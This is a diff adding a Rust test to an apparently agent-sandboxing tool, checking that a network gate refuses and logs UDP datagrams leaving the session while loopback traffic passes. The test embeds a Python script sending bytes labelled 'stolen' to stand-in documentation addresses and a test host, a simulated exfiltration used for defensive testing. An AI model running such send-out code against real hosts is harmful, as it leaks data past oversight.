@@ -13,6 +13,7 @@ use std::time::{Duration, Instant};
 use agentguard::core::{Event, Forcing, Level, Network, OutcomeOf};
 
 use crate::attack::Tried;
+use crate::recorded::reached;
 use crate::scene::{Scene, as_everyone, level};
 
 /// How long is waited for what another process does.
@@ -368,6 +369,40 @@ fn datagrams_go_nowhere() {
         udp.set_nonblocking(true).unwrap();
         let came = udp.recv(&mut [0; 16]);
         assert_eq!(came.unwrap_err().kind(), ErrorKind::WouldBlock);
+    });
+}
+
+/// Also where it is the last thing that a session does. What a session sends to itself is nobody's business.
+#[test]
+fn a_datagram_that_the_gate_refuses_is_an_entry_and_one_to_oneself_is_none() {
+    with_server(|scene, server| {
+        if level() != Level::Full {
+            println!("`turned` has this level's");
+            return;
+        }
+        let policy = server.policy(scene, "");
+        let python = "import socket\n\
+             own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+             own.bind(('127.0.0.1', 0))\n\
+             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'own', own.getsockname())\n\
+             print(own.recv(3).decode())\n\
+             six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
+             six.sendto(b'own', ('::1', 9))\n\
+             name = socket.getaddrinfo('api.test', 443)[0][4]\n\
+             four = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+             for to in 3 * [('203.0.113.9', 443)] + [name]: four.sendto(b'stolen', to)\n\
+             for to in ['2001:db8::9', '::ffff:203.0.113.8']: six.sendto(b'x' * 60000, (to, 443))\n";
+        scene.write("home/work/send.py", python);
+        let ran = scene.run_with(&[&policy], &["/usr/bin/python3", "send.py"]);
+        assert_eq!(ran.stdout, "own\n", "{}", ran.stderr);
+        let mut hosts = reached(scene);
+        hosts.sort_unstable();
+        let all = ["2001:db8::9", "203.0.113.8", "203.0.113.9", "api.test"];
+        assert_eq!(hosts, all);
+        assert_eq!(scene.refusals(), ["gate/datagram"; 4], "{}", ran.stderr);
+        assert_eq!(repeats(scene), 2);
+        assert_eq!(server.connections(), 0);
+        assert_verifies(scene);
     });
 }
 
